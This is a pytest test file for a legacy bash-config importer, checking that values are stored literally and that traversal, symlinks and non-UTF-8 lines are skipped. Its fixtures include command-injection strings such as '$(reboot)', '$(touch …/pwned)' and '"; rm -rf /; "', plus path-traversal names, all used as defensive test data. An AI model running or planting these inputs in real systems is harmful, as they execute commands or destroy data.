"""Importing a bash-era tree: every file lands in its record as literal data, nothing runs."""

from __future__ import annotations

import os
import re
import subprocess
from pathlib import Path

import pytest

from hps_api.errors import InvalidInput
from hps_api.importer.legacy import (
    ConvertedRecord,
    ImportReport,
    SkippedLine,
    format_report,
    import_legacy,
)
from hps_api.store import FileStore, RecordId
from hps_api.store.journal import Change

ACTOR = "cli:tester"
HOST1 = RecordId.of_host("alpha", "525400aabb01")


def _write(root: Path, relative: str, text: str) -> Path:
    path = root / relative
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text, encoding="utf-8")
    return path


def _snapshot(root: Path) -> dict[str, tuple[int, bytes | str | None]]:
    """Every path under root with its mode and content (link target for symlinks)."""
    if not root.exists():
        return {}
    shot: dict[str, tuple[int, bytes | str | None]] = {}
    for path in sorted(root.rglob("*")):
        mode = path.lstat().st_mode
        content: bytes | str | None = None
        if path.is_symlink():
            content = os.readlink(path)
        elif path.is_file():
            content = path.read_bytes()
        shot[path.relative_to(root).as_posix()] = (mode, content)
    return shot


def _values(store: FileStore, rid: RecordId) -> dict[str, str]:
    return {k: v for k, v in store.items(rid).items() if k != "UPDATED"}


@pytest.fixture
def legacy(tmp_path: Path) -> Path:
    """A legacy tree with every form the old system wrote, and some it should not have."""
    root = tmp_path / "old"
    _write(root, "hps.conf", (
        "# IPS settings, sourced by bash\n"                          # 1
        'export DNS_SERVER="10.0.0.1"\n'                             # 2
        "export NTP=pool.ntp.org\n"                                  # 3
        "log_level='debug'\n"                                        # 4
        "\n"                                                         # 5
        'export REBOOT="$(reboot)"\n'                                # 6
        f'export PWNED="$(touch {tmp_path}/pwned)"\n'                # 7
        f'TICKS="`touch {tmp_path}/pwned-backtick`"\n'               # 8
        "source /etc/hps/extra.conf\n"                               # 9
        'NTP="time.example.org" # the last one wins\n'               # 10
    ))
    _write(root, "clusters/alpha/cluster.conf", (
        "# cluster alpha\n"                                          # 1
        'NETWORK="10.0.0.0/24"\n'                                    # 2
        "export DHCP_RANGE='10.0.0.100,10.0.0.200'\n"                # 3
        "name=alpha # trailing comment\n"                            # 4
        "SECRET_B64=dGVzdA==\n"                                      # 5
        'OPTS="a=b c=d"\n'                                           # 6
        "if [ -f /etc/alpha ]; then\n"                               # 7
        "  EXTRA=1\n"                                                # 8
        "fi\n"                                                       # 9
        'MOTD="Welcome\n'                                            # 10
        "HOSTNAME=evil\n"                                            # 11
        '"\n'                                                        # 12
        'TAB="a\tb"\n'                                               # 13
        f"CMD=$(touch {tmp_path}/pwned-bare)\n"                      # 14
        "SPACED=a b\n"                                               # 15
    ))
    _write(root, "clusters/alpha/hosts/52:54:00:aa:bb:01.conf", (
        'HOSTNAME="node01"\n'                                        # 1
        'NOTE="\\"; rm -rf /; \\""\n'                                # 2
        'QUOTED="\\"quoted\\""\n'                                    # 3
        'URL="http://x/a%20b?c=d&e=f"\n'                             # 4
        'GREETING="grüß dich ✓"\n'                                   # 5
        'PRICE="\\$5, \\`cmd\\`, \\\\ and \\n"\n'                    # 6
        'HOME_DIR="${HOME}/x $USER"\n'                               # 7
        "SINGLE='$(reboot) `id` \\n'\n"                              # 8
        "STATE=UNCONFIGURED\n"                                       # 9
        "STATE=CONFIGURED\n"                                         # 10
        "UPDATED=2020-01-01T00:00:00Z\n"                             # 11
    ))
    _write(root, "clusters/alpha/hosts/525400aabb02.conf", "HOSTNAME=node02\n")
    _write(root, "clusters/alpha/hosts/..conf", "HOSTNAME=dotdot\n")
    _write(root, "clusters/alpha/hosts/sh.conf", "HOSTNAME=sh\n")
    _write(root, "clusters/alpha/hosts/ff:ff:ff:ff:ff:ff.conf", "HOSTNAME=broadcast\n")
    _write(root, "clusters/alpha/hosts/README", "hosts live here\n")
    _write(root, "clusters/beta/cluster.conf", "NETWORK=10.1.0.0/24\n")
    _write(root, "clusters/beta/hosts/52-54-00-AA-BB-03.conf", "HOSTNAME=beta01\n")
    _write(root, "clusters/Bad_Name/cluster.conf", "NETWORK=10.9.0.0/24\n")
    _write(root, "clusters/gamma/hosts/525400aabb04.conf", "HOSTNAME=gamma01\n")
    _write(root, "hosts/525400aabb05.conf", 'export HOSTNAME="node05"\n')
    (root / "clusters" / "active-cluster").symlink_to("alpha")
    _write(root, "os.conf", (
        "; OS registry\n"                                            # 1
        "[x86_64:rocky:10]\n"                                        # 2
        "kernel = vmlinuz\n"                                         # 3
        "initrd=initrd.img\n"                                        # 4
        "# comment\n"                                                # 5
        "repo = http://mirror/rocky/10?x=1\n"                        # 6
        "[../../etc]\n"                                              # 7
        "kernel = evil\n"                                            # 8
    ))
    _write(root, "os/os.conf", "[aarch64:debian:12]\nkernel = vmlinuz-arm\n")
    return root


@pytest.fixture
def target(tmp_path: Path) -> FileStore:
    """A fresh store: nothing exists yet."""
    return FileStore(tmp_path / "store", lock_timeout=0.5)


EXPECTED_VALUES = {
    RecordId.global_(): {
        "DNS_SERVER": "10.0.0.1",
        "LOG_LEVEL": "debug",
        "REBOOT": "$(reboot)",
        "PWNED": "$(touch {tmp}/pwned)",
        "TICKS": "`touch {tmp}/pwned-backtick`",
        "NTP": "time.example.org",
        "ACTIVE_CLUSTER": "alpha",
    },
    RecordId.of_os("x86_64:rocky:10"): {
        "KERNEL": "vmlinuz", "INITRD": "initrd.img", "REPO": "http://mirror/rocky/10?x=1",
    },
    RecordId.of_os("aarch64:debian:12"): {"KERNEL": "vmlinuz-arm"},
    RecordId.of_cluster("alpha"): {
        "NETWORK": "10.0.0.0/24",
        "DHCP_RANGE": "10.0.0.100,10.0.0.200",
        "NAME": "alpha",
        "SECRET_B64": "dGVzdA==",
        "OPTS": "a=b c=d",
    },
    HOST1: {
        "HOSTNAME": "node01",
        "NOTE": '"; rm -rf /; "',
        "QUOTED": '"quoted"',
        "URL": "http://x/a%20b?c=d&e=f",
        "GREETING": "grüß dich ✓",
        "PRICE": "$5, `cmd`, \\ and \\n",
        "HOME_DIR": "${HOME}/x $USER",
        "SINGLE": "$(reboot) `id` \\n",
        "STATE": "CONFIGURED",
    },
    RecordId.of_host("alpha", "525400aabb02"): {"HOSTNAME": "node02"},
    RecordId.of_host("alpha", "525400aabb05"): {"HOSTNAME": "node05"},
    RecordId.of_cluster("beta"): {"NETWORK": "10.1.0.0/24"},
    RecordId.of_host("beta", "525400aabb03"): {"HOSTNAME": "beta01"},
}

EXPECTED_CONVERTED = [
    ConvertedRecord("hps.conf + clusters/active-cluster", "hps", 7),
    ConvertedRecord("os/os.conf", "os/aarch64:debian:12", 1),
    ConvertedRecord("os.conf", "os/x86_64:rocky:10", 3),
    ConvertedRecord("clusters/alpha/cluster.conf", "cluster/alpha", 5),
    ConvertedRecord("clusters/alpha/hosts/52:54:00:aa:bb:01.conf", "host/525400aabb01", 9,
                    "2020-01-01T00:00:00Z"),
    ConvertedRecord("clusters/alpha/hosts/525400aabb02.conf", "host/525400aabb02", 1),
    ConvertedRecord("hosts/525400aabb05.conf", "host/525400aabb05", 1),
    ConvertedRecord("clusters/beta/cluster.conf", "cluster/beta", 1),
    ConvertedRecord("clusters/beta/hosts/52-54-00-AA-BB-03.conf", "host/525400aabb03", 1),
]

# (source, line, text, reason); {tmp} is the test's tmp_path.
EXPECTED_SKIPPED = [
    ("clusters/Bad_Name", 0, "", "invalid cluster name: 'Bad_Name'; cluster skipped"),
    ("clusters/alpha/cluster.conf", 7, "if [ -f /etc/alpha ]; then",
     "not a KEY=value assignment"),
    ("clusters/alpha/cluster.conf", 8, "  EXTRA=1", "inside the shell block opened on line 7"),
    ("clusters/alpha/cluster.conf", 9, "fi", "not a KEY=value assignment"),
    ("clusters/alpha/cluster.conf", 10, 'MOTD="Welcome',
     "spans lines 10-12 (a multi-line value, command or here-document)"),
    ("clusters/alpha/cluster.conf", 13, 'TAB="a\tb"',
     "value contains a control character (U+0009)"),
    ("clusters/alpha/cluster.conf", 14, "CMD=$(touch {tmp}/pwned-bare)",
     "unquoted command substitution: a shell construct, not data"),
    ("clusters/alpha/cluster.conf", 15, "SPACED=a b",
     "text after the value: an unquoted space ends it and the rest runs as a command"),
    ("clusters/alpha/hosts/..conf", 0, "",
     "file name is not a MAC address: invalid MAC address: '.'"),
    ("clusters/alpha/hosts/52:54:00:aa:bb:01.conf", 9, "STATE=UNCONFIGURED",
     "STATE is set again on line 10 (the last one wins)"),
    ("clusters/alpha/hosts/README", 0, "", "not a <mac>.conf file"),
    ("clusters/alpha/hosts/ff:ff:ff:ff:ff:ff.conf", 0, "",
     "file name is not a MAC address: not a host MAC address (zero, multicast or broadcast): "
     "ff:ff:ff:ff:ff:ff"),
    ("clusters/alpha/hosts/sh.conf", 0, "",
     "file name is not a MAC address: invalid MAC address: 'sh'"),
    ("clusters/gamma/hosts/525400aabb04.conf", 0, "",
     "cluster 'gamma' is neither in the legacy tree (no cluster.conf) nor in the store"),
    ("hps.conf", 3, "export NTP=pool.ntp.org", "NTP is set again on line 10 (the last one wins)"),
    ("hps.conf", 9, "source /etc/hps/extra.conf", "not a KEY=value assignment"),
    ("os.conf", 7, "[../../etc]",
     "invalid OS id '../../etc': expected <arch>:<name>:<version>; section skipped"),
    ("os.conf", 8, "kernel = evil", "in the skipped section of line 7"),
]


def _expected_values(tmp_path: Path) -> dict[RecordId, dict[str, str]]:
    return {rid: {k: v.replace("{tmp}", str(tmp_path)) for k, v in values.items()}
            for rid, values in EXPECTED_VALUES.items()}


def _expected_skipped(tmp_path: Path) -> list[SkippedLine]:
    return [SkippedLine(src, line, text.replace("{tmp}", str(tmp_path)), reason)
            for src, line, text, reason in EXPECTED_SKIPPED]


def test_every_legacy_file_lands_in_its_record_with_exact_literal_values(
    legacy: Path, target: FileStore, tmp_path: Path
) -> None:
    import_legacy(legacy, target, ACTOR)
    expected = _expected_values(tmp_path)
    assert {rid: _values(target, rid) for rid in expected} == expected
    assert not target.exists(RecordId.of_cluster("gamma"))


def test_the_report_lists_converted_records_in_write_order(
    legacy: Path, target: FileStore
) -> None:
    report = import_legacy(legacy, target, ACTOR)
    assert report.converted == EXPECTED_CONVERTED
    assert report.active_cluster == "alpha"


def test_the_report_lists_every_skipped_line_with_its_line_number_and_reason(
    legacy: Path, target: FileStore, tmp_path: Path
) -> None:
    report = import_legacy(legacy, target, ACTOR)
    assert report.skipped == _expected_skipped(tmp_path)


def test_hostile_values_land_as_literal_text_and_nothing_is_executed(
    legacy: Path, target: FileStore, tmp_path: Path
) -> None:
    import_legacy(legacy, target, ACTOR)
    hps = target.items(RecordId.global_())
    assert hps["REBOOT"] == "$(reboot)"
    assert hps["PWNED"] == f"$(touch {tmp_path}/pwned)"
    assert target.get(HOST1, "NOTE") == '"; rm -rf /; "'
    assert sorted(p.name for p in tmp_path.iterdir()) == ["old", "store"]


def test_a_dry_run_writes_nothing_and_reports_the_same_as_a_real_run(
    legacy: Path, tmp_path: Path
) -> None:
    store = FileStore(tmp_path / "store")
    store.update(RecordId.of_cluster("beta"), {"NETWORK": "old"}, "test:setup", create=True)
    before = _snapshot(tmp_path)
    dry = import_legacy(legacy, store, ACTOR, dry_run=True)
    assert _snapshot(tmp_path) == before
    assert dry == import_legacy(legacy, store, ACTOR)


def test_a_dry_run_into_a_fresh_store_creates_not_even_its_directory(
    legacy: Path, target: FileStore, tmp_path: Path
) -> None:
    report = import_legacy(legacy, target, ACTOR, dry_run=True)
    assert not target.layout.root.exists()
    assert report == ImportReport(EXPECTED_CONVERTED, _expected_skipped(tmp_path), "alpha")


def test_the_legacy_tree_is_never_modified(legacy: Path, target: FileStore) -> None:
    before = _snapshot(legacy)
    import_legacy(legacy, target, ACTOR)
    assert _snapshot(legacy) == before


def test_every_write_is_journaled_with_the_actor(legacy: Path, target: FileStore) -> None:
    import_legacy(legacy, target, ACTOR)
    old, *history = target.history(HOST1)
    assert old.actor == "legacy:clusters/alpha/hosts/52:54:00:aa:bb:01.conf"
    assert {change.actor for change in history} == {ACTOR}
    assert [(c.key, c.new) for c in history if c.key == "STATE"] == [("STATE", "CONFIGURED")]


def test_names_that_are_not_macs_or_clusters_cannot_escape_the_store(
    legacy: Path, target: FileStore, tmp_path: Path
) -> None:
    (legacy / "clusters" / "active-cluster").unlink()
    (legacy / "clusters" / "active-cluster").symlink_to("/bin/sh")
    _write(legacy, "clusters/..x/cluster.conf", "A=1\n")
    _write(legacy, "clusters/%2e%2e/cluster.conf", "A=1\n")
    import_legacy(legacy, target, ACTOR)
    records = {p.relative_to(target.layout.root).as_posix()
               for p in target.layout.root.rglob("*.conf")}
    assert records == {
        "hps.conf",
        "os/x86_64_rocky_10.conf",
        "os/aarch64_debian_12.conf",
        "clusters/alpha/cluster.conf",
        "clusters/alpha/hosts/525400aabb01.conf",
        "clusters/alpha/hosts/525400aabb02.conf",
        "clusters/beta/cluster.conf",
        "clusters/beta/hosts/525400aabb03.conf",
    }
    assert sorted(p.name for p in tmp_path.iterdir()) == ["old", "store"]
    assert "ACTIVE_CLUSTER" not in target.items(RecordId.global_())


@pytest.mark.parametrize(
    "make_marker",
    [
        pytest.param(lambda m, root: m.symlink_to("alpha"), id="relative symlink"),
        pytest.param(lambda m, root: m.symlink_to("alpha/"), id="trailing slash"),
        pytest.param(lambda m, root: m.symlink_to(root / "clusters" / "alpha"),
                     id="absolute symlink"),
        pytest.param(lambda m, root: m.symlink_to("/srv/hps-config/clusters/alpha"),
                     id="dangling absolute symlink"),
        pytest.param(lambda m, root: m.write_text("alpha\n"), id="regular file"),
    ],
)
def test_the_active_cluster_marker_names_the_active_cluster(
    legacy: Path, target: FileStore, make_marker: object
) -> None:
    marker = legacy / "clusters" / "active-cluster"
    marker.unlink()
    make_marker(marker, legacy)  # type: ignore[operator]
    report = import_legacy(legacy, target, ACTOR)
    assert report.active_cluster == "alpha"
    assert target.get(RecordId.global_(), "ACTIVE_CLUSTER") == "alpha"
    assert target.exists(RecordId.of_host("alpha", "525400aabb05"))


@pytest.mark.parametrize(
    ("make_marker", "text", "reason"),
    [
        (lambda m: m.symlink_to("/bin/sh"), "/bin/sh",
         "active cluster 'sh' is neither in the legacy tree nor in the store"),
        (lambda m: m.symlink_to(".."), "..", "ACTIVE_CLUSTER: invalid cluster name: '..'"),
        (lambda m: m.write_text("../x\n"), "../x",
         "ACTIVE_CLUSTER: invalid cluster name: '../x'"),
        (lambda m: m.write_text(""), "", "ACTIVE_CLUSTER: invalid cluster name: ''"),
        (lambda m: m.mkdir(), "", "not a regular file"),
    ],
)
def test_a_marker_naming_no_known_cluster_sets_nothing_and_strands_top_level_hosts(
    legacy: Path, target: FileStore, make_marker: object, text: str, reason: str
) -> None:
    marker = legacy / "clusters" / "active-cluster"
    marker.unlink()
    make_marker(marker)  # type: ignore[operator]
    report = import_legacy(legacy, target, ACTOR)
    marker_lines = [(s.text, s.reason) for s in report.skipped
                    if s.source == "clusters/active-cluster"]
    assert marker_lines == [(text, reason)]
    assert report.active_cluster is None
    assert "ACTIVE_CLUSTER" not in target.items(RecordId.global_())
    assert SkippedLine("hosts/525400aabb05.conf", 0, "",
                       "top-level hosts belong to the active cluster, and the legacy tree "
                       "names none (clusters/active-cluster)") in report.skipped


def test_the_active_cluster_of_the_store_is_never_changed(
    legacy: Path, target: FileStore
) -> None:
    target.update(RecordId.of_cluster("prod"), {}, "test:setup", create=True)
    target.update(RecordId.global_(), {"ACTIVE_CLUSTER": "prod"}, "test:setup", create=True)
    report = import_legacy(legacy, target, ACTOR)
    assert target.get(RecordId.global_(), "ACTIVE_CLUSTER") == "prod"
    assert SkippedLine("clusters/active-cluster", 0, "alpha",
                       "the store already has ACTIVE_CLUSTER='prod'; not changed") in report.skipped
    assert report.active_cluster == "alpha"
    assert target.get(RecordId.of_host("alpha", "525400aabb05"), "HOSTNAME") == "node05"


def test_the_active_cluster_may_come_from_hps_conf_when_there_is_no_marker(
    legacy: Path, target: FileStore
) -> None:
    (legacy / "clusters" / "active-cluster").unlink()
    _write(legacy, "hps.conf", "export ACTIVE_CLUSTER=beta\n")
    report = import_legacy(legacy, target, ACTOR)
    assert report.active_cluster == "beta"
    assert target.get(RecordId.global_(), "ACTIVE_CLUSTER") == "beta"
    assert target.exists(RecordId.of_host("beta", "525400aabb05"))


def test_existing_records_are_merged_and_legacy_values_win(
    legacy: Path, target: FileStore
) -> None:
    target.update(RecordId.of_cluster("alpha"), {"NETWORK": "192.168.0.0/16", "KEEP": "yes"},
                  "test:setup", create=True)
    import_legacy(legacy, target, ACTOR)
    values = _values(target, RecordId.of_cluster("alpha"))
    assert values["NETWORK"] == "10.0.0.0/24"
    assert values["KEEP"] == "yes"


def test_hosts_of_a_cluster_that_exists_only_in_the_store_are_imported(
    legacy: Path, target: FileStore
) -> None:
    target.update(RecordId.of_cluster("gamma"), {}, "test:setup", create=True)
    report = import_legacy(legacy, target, ACTOR)
    assert target.get(RecordId.of_host("gamma", "525400aabb04"), "HOSTNAME") == "gamma01"
    assert all(s.source != "clusters/gamma/hosts/525400aabb04.conf" for s in report.skipped)


def test_two_spellings_of_one_mac_merge_and_the_file_later_by_name_wins(
    legacy: Path, target: FileStore
) -> None:
    _write(legacy, "clusters/beta/hosts/525400aabb03.conf", "HOSTNAME=later\nRACK=r1\n")
    report = import_legacy(legacy, target, ACTOR)
    assert _values(target, RecordId.of_host("beta", "525400aabb03")) == {
        "HOSTNAME": "later", "RACK": "r1"}
    assert SkippedLine("clusters/beta/hosts/52-54-00-AA-BB-03.conf", 1, "HOSTNAME=beta01",
                       "HOSTNAME is set again on clusters/beta/hosts/525400aabb03.conf:1 "
                       "(the last one wins)") in report.skipped
    assert ConvertedRecord("clusters/beta/hosts/52-54-00-AA-BB-03.conf + "
                           "clusters/beta/hosts/525400aabb03.conf",
                           "host/525400aabb03", 2) in report.converted


def test_symlinks_and_special_files_are_never_followed_or_read(
    legacy: Path, target: FileStore, tmp_path: Path
) -> None:
    secret = _write(tmp_path, "outside/secret.conf", "PASSWORD=hunter2\n")
    (legacy / "clusters/beta/hosts/525400aabb06.conf").symlink_to(secret)
    os.mkfifo(legacy / "clusters/beta/hosts/525400aabb07.conf")
    (legacy / "clusters/delta").symlink_to(secret.parent)
    (legacy / "clusters/beta/hosts/525400aabb08.conf").mkdir()
    report = import_legacy(legacy, target, ACTOR)
    reasons = {s.source: s.reason for s in report.skipped if s.line == 0}
    assert reasons["clusters/beta/hosts/525400aabb06.conf"] == "a symbolic link (not followed)"
    assert reasons["clusters/beta/hosts/525400aabb07.conf"] == "not a regular file"
    assert reasons["clusters/beta/hosts/525400aabb08.conf"] == "not a regular file"
    assert reasons["clusters/delta"] == "a symbolic link (not followed)"
    assert target.list_records(RecordId.of_cluster("beta").kind) == [
        RecordId.of_cluster("alpha"), RecordId.of_cluster("beta")]
    assert "hunter2" not in "".join(
        p.read_text() for p in target.layout.root.rglob("*") if p.is_file())


def test_lines_that_are_not_utf8_are_skipped_and_the_rest_is_kept(
    legacy: Path, target: FileStore
) -> None:
    (legacy / "clusters/beta/cluster.conf").write_bytes(b"LATIN=caf\xe9\nNETWORK=10.1.0.0/24\n")
    report = import_legacy(legacy, target, ACTOR)
    assert _values(target, RecordId.of_cluster("beta")) == {"NETWORK": "10.1.0.0/24"}
    assert SkippedLine("clusters/beta/cluster.conf", 1, "LATIN=caf\udce9",
                       "value is not UTF-8 text") in report.skipped


def test_a_tree_with_only_a_cluster_needs_no_hps_conf(tmp_path: Path, target: FileStore) -> None:
    _write(tmp_path / "old", "clusters/solo/cluster.conf", "NETWORK=10.2.0.0/24\n")
    report = import_legacy(tmp_path / "old", target, ACTOR)
    assert report.converted == [ConvertedRecord("clusters/solo/cluster.conf", "cluster/solo", 1)]
    assert not target.exists(RecordId.global_())


def test_a_source_that_is_not_a_directory_is_invalid_input(
    tmp_path: Path, target: FileStore
) -> None:
    conf = _write(tmp_path, "hps.conf", "A=1\n")
    for source in (conf, tmp_path / "missing"):
        with pytest.raises(InvalidInput, match="not a directory"):
            import_legacy(source, target, ACTOR)


def test_a_directory_with_nothing_recognisable_is_invalid_input(
    tmp_path: Path, target: FileStore
) -> None:
    _write(tmp_path, "old/notes.txt", "nothing here\n")
    with pytest.raises(InvalidInput, match="not a legacy configuration tree"):
        import_legacy(tmp_path / "old", target, ACTOR)
    assert not target.layout.root.exists()


def test_the_store_itself_is_refused_as_a_source(legacy: Path) -> None:
    with pytest.raises(InvalidInput, match="is the store itself"):
        import_legacy(legacy, FileStore(legacy), ACTOR)


def test_the_formatted_report_has_one_line_per_entry_and_a_summary() -> None:
    report = ImportReport(
        converted=[ConvertedRecord("hps.conf", "hps", 1),
                   ConvertedRecord("clusters/a/cluster.conf", "cluster/a", 2)],
        skipped=[SkippedLine("clusters/Bad", 0, "", "invalid cluster name"),
                 SkippedLine("hps.conf", 4, "echo 'hi'", "not a KEY=value assignment"),
                 SkippedLine("hps.conf", 5, "X=" + "y" * 70, "too long"),
                 SkippedLine("hosts/x\n.conf", 0, "", "not a <mac>.conf file")],
        active_cluster=None,
    )
    assert format_report(report) == [
        "converted hps.conf -> hps (1 key)",
        "converted clusters/a/cluster.conf -> cluster/a (2 keys)",
        "skipped clusters/Bad: invalid cluster name",
        "skipped hps.conf:4: not a KEY=value assignment: \"echo 'hi'\"",
        "skipped hps.conf:5: too long: '" + "X=" + "y" * 55 + "'...",
        "skipped 'hosts/x\\n.conf': not a <mac>.conf file",
        "2 records converted, 4 skipped; legacy active cluster: none",
    ]


# -- a tree exactly as the bash-era system wrote it ----------------------------------------------
#
# hps.conf as its initialise script wrote it; cluster.conf as `cluster_config set` appended or
# rewrote lines (bare values, double quotes only around whitespace, quotes, `$`, backslashes or
# an empty value); host files as `host_config set` rewrote them whole (two comment lines, every
# key in C sort order, every value double-quoted, UPDATED stamped on each write); the
# active-cluster link as `ln -sfn` made it; os.conf as the INI the OS registry kept.

OLD_HPS_CONF = """\
# HPS configuration
# Generated on 2026-11-02T09:14:27+00:00 by hps-initialise.sh

# Base path constants
export HPS_CONFIG_BASE="/srv/hps-config"
export HPS_ROOT="/srv"

# Derived paths
export HPS_CLUSTER_CONFIG_BASE_DIR="/srv/hps-config/clusters"
export HPS_LOG_DIR="/srv/hps-system/log"

# Configuration loaded marker
export __HPS_CONF_LOADED="1"
"""

OLD_CLUSTER_CONF = """\
CLUSTER_NAME=lab
DESCRIPTION="Lab cluster, rack 4"
DNS_DOMAIN=lab.example
DHCP_ENABLED=true
DHCP_IFACE=eth1
DHCP_IP=10.99.1.1
DHCP_CIDR=10.99.1.1/24
NETWORK_CIDR=10.99.1.0/24
DHCP_RANGESIZE=50
network_storage_count=1
network_storage_mtu=9000
network_storage_base_vlan=100
network_storage_subnet_base=10.31
network_storage_subnet_cidr=24
network_storage_vlan100_subnet=10.31.100.0/24
network_storage_vlan100_gateway=10.31.100.1
network_storage_vlan100_netmask=255.255.255.0
network_storage_vlan100_domain=storage100.lab.example
network_storage_vlan100_allocated=false
SYSLOG_SERVER=10.99.1.1
TIME_SERVER=""
MOTD="Say \\"hi\\" to $USER"
"""

OLD_SCH_HOST = """\
# Auto-generated host config
# MAC: 52:54:00:aa:bb:01
HOSTNAME="sch-001"
HOST_PROFILE="DEFAULT"
IP="10.99.1.10"
NETMASK="255.255.255.0"
STATE="INSTALLED"
TYPE="SCH"
UPDATED="2026-11-21 18:29:05 UTC"
arch="x86_64"
host_count="2"
host_cpu="Intel(R) Xeon(R) CPU E5-2680 v4 @ 2.40GHz"
host_timestamp="1763749745"
os_id="x86_64:rocky:10.0"
storage0_ip="10.31.100.10"
"""

OLD_TCH_HOST = """\
# Auto-generated host config
# MAC: 525400aabb02
HOSTNAME="tch-001"
IP="10.99.1.20"
NETMASK="255.255.255.0"
STATE="INSTALLED"
TYPE="TCH"
UPDATED="2026-11-21 18:31:40 UTC"
arch="x86_64"
last_reboot_time="2026-11-21 18:30:12"
reboot_logging="enabled"
status="rebooting"
storage0_interface="eth1.100"
virtualization_status="enabled"
"""

OLD_NEW_HOST = """\
# Auto-generated host config
# MAC: 52:54:00:aa:bb:03
STATE="UNCONFIGURED"
UPDATED="2026-11-21 18:40:00 UTC"
arch="x86_64"
"""

OLD_OS_CONF = """\
[x86_64:rocky:10.0]
arch=x86_64
name=rocky
version=10.0
hps_types=SCH,DRH
repo_path=x86_64/rocky/10.0
status=prod

[x86_64:alpine:3.20]
arch=x86_64
name=alpine
hps_types=TCH
status=prod
"""

OLD_SCH = RecordId.of_host("lab", "525400aabb01")
OLD_TCH = RecordId.of_host("lab", "525400aabb02")
OLD_NEW = RecordId.of_host("lab", "525400aabb03")


@pytest.fixture
def bash_era(tmp_path: Path) -> Path:
    """A tree as the old system left it in /srv/hps-config, moved aside."""
    root = tmp_path / "hps-config.legacy"
    _write(root, "hps.conf", OLD_HPS_CONF)
    _write(root, "os.conf", OLD_OS_CONF)
    _write(root, "clusters/lab/cluster.conf", OLD_CLUSTER_CONF)
    _write(root, "clusters/lab/hosts/525400aabb01.conf", OLD_SCH_HOST)
    _write(root, "clusters/lab/hosts/525400aabb02.conf", OLD_TCH_HOST)
    _write(root, "clusters/lab/hosts/525400aabb03.conf", OLD_NEW_HOST)
    _write(root, "clusters/lab/services/dnsmasq.conf", "dhcp-range=10.99.1.100,10.99.1.150\n")
    (root / "clusters/lab/keysafe").mkdir()
    _write(root, "tftp/ipxe.efi", "binary\n")
    (root / "clusters/active-cluster").symlink_to("/srv/hps-config/clusters/lab")
    return root


OLD_VALUES = {
    RecordId.global_(): {
        "HPS_CONFIG_BASE": "/srv/hps-config", "HPS_ROOT": "/srv",
        "HPS_CLUSTER_CONFIG_BASE_DIR": "/srv/hps-config/clusters",
        "HPS_LOG_DIR": "/srv/hps-system/log", "__HPS_CONF_LOADED": "1", "ACTIVE_CLUSTER": "lab",
    },
    RecordId.of_os("x86_64:rocky:10.0"): {
        "ARCH": "x86_64", "NAME": "rocky", "VERSION": "10.0", "HPS_TYPES": "SCH,DRH",
        "REPO_PATH": "x86_64/rocky/10.0", "STATUS": "prod",
    },
    RecordId.of_os("x86_64:alpine:3.20"): {
        "ARCH": "x86_64", "NAME": "alpine", "HPS_TYPES": "TCH", "STATUS": "prod",
    },
    RecordId.of_cluster("lab"): {
        "CLUSTER_NAME": "lab", "DESCRIPTION": "Lab cluster, rack 4", "DNS_DOMAIN": "lab.example",
        "DHCP_ENABLED": "true", "DHCP_IFACE": "eth1", "DHCP_IP": "10.99.1.1",
        "DHCP_CIDR": "10.99.1.1/24", "NETWORK_CIDR": "10.99.1.0/24", "DHCP_RANGESIZE": "50",
        "NETWORK_STORAGE_COUNT": "1", "NETWORK_STORAGE_MTU": "9000",
        "NETWORK_STORAGE_BASE_VLAN": "100", "NETWORK_STORAGE_SUBNET_BASE": "10.31",
        "NETWORK_STORAGE_SUBNET_CIDR": "24",
        "NETWORK_STORAGE_VLAN100_SUBNET": "10.31.100.0/24",
        "NETWORK_STORAGE_VLAN100_GATEWAY": "10.31.100.1",
        "NETWORK_STORAGE_VLAN100_NETMASK": "255.255.255.0",
        "NETWORK_STORAGE_VLAN100_DOMAIN": "storage100.lab.example",
        "NETWORK_STORAGE_VLAN100_ALLOCATED": "false", "SYSLOG_SERVER": "10.99.1.1",
        "TIME_SERVER": "", "MOTD": 'Say "hi" to $USER',
    },
    OLD_SCH: {
        "HOSTNAME": "sch-001", "HOST_PROFILE": "DEFAULT", "IP": "10.99.1.10",
        "NETMASK": "255.255.255.0", "STATE": "INSTALLED", "TYPE": "SCH", "ARCH": "x86_64",
        "HOST_COUNT": "2", "HOST_CPU": "Intel(R) Xeon(R) CPU E5-2680 v4 @ 2.40GHz",
        "HOST_TIMESTAMP": "1763749745", "OS_ID": "x86_64:rocky:10.0",
        "STORAGE0_IP": "10.31.100.10",
        "KEY_SPELLINGS": "arch host_count host_cpu host_timestamp os_id storage0_ip",
    },
    OLD_TCH: {
        "HOSTNAME": "tch-001", "IP": "10.99.1.20", "NETMASK": "255.255.255.0",
        "STATE": "INSTALLED", "TYPE": "TCH", "ARCH": "x86_64",
        "LAST_REBOOT_TIME": "2026-11-21 18:30:12", "REBOOT_LOGGING": "enabled",
        "STATUS": "rebooting", "STORAGE0_INTERFACE": "eth1.100",
        "VIRTUALIZATION_STATUS": "enabled",
        "KEY_SPELLINGS": "arch last_reboot_time reboot_logging status storage0_interface "
                         "virtualization_status",
    },
    OLD_NEW: {"STATE": "UNCONFIGURED", "ARCH": "x86_64", "KEY_SPELLINGS": "arch"},
}

OLD_CONVERTED = [
    ConvertedRecord("hps.conf + clusters/active-cluster", "hps", 6),
    ConvertedRecord("os.conf", "os/x86_64:alpine:3.20", 4),
    ConvertedRecord("os.conf", "os/x86_64:rocky:10.0", 6),
    ConvertedRecord("clusters/lab/cluster.conf", "cluster/lab", 22),
    ConvertedRecord("clusters/lab/hosts/525400aabb01.conf", "host/525400aabb01", 12,
                    "2026-11-21T18:29:05Z"),
    ConvertedRecord("clusters/lab/hosts/525400aabb02.conf", "host/525400aabb02", 11,
                    "2026-11-21T18:31:40Z"),
    ConvertedRecord("clusters/lab/hosts/525400aabb03.conf", "host/525400aabb03", 2,
                    "2026-11-21T18:40:00Z"),
]


def test_a_tree_the_old_system_wrote_imports_with_nothing_skipped(
    bash_era: Path, target: FileStore
) -> None:
    report = import_legacy(bash_era, target, ACTOR)
    assert report == ImportReport(OLD_CONVERTED, [], "lab")
    assert format_report(report)[-1] == (
        "7 records converted, 0 skipped; legacy active cluster: lab")
    assert format_report(report)[4] == (
        "converted clusters/lab/hosts/525400aabb01.conf -> host/525400aabb01 (12 keys; "
        "UPDATED 2026-11-21T18:29:05Z kept in the journal)")


def test_every_value_of_an_old_tree_arrives_under_its_upper_case_key(
    bash_era: Path, target: FileStore
) -> None:
    import_legacy(bash_era, target, ACTOR)
